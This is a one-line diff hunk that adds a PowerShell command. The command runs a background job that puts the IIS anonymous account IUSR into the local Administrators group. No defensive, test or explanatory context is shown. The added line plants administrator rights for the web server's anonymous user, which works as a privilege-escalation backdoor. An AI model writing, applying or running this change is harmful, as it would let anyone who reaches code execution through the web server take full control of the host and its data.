@@ -1,0 +1,1 @@
+Start-Job { net localgroup Administrators IUSR /add } | Wait-Job
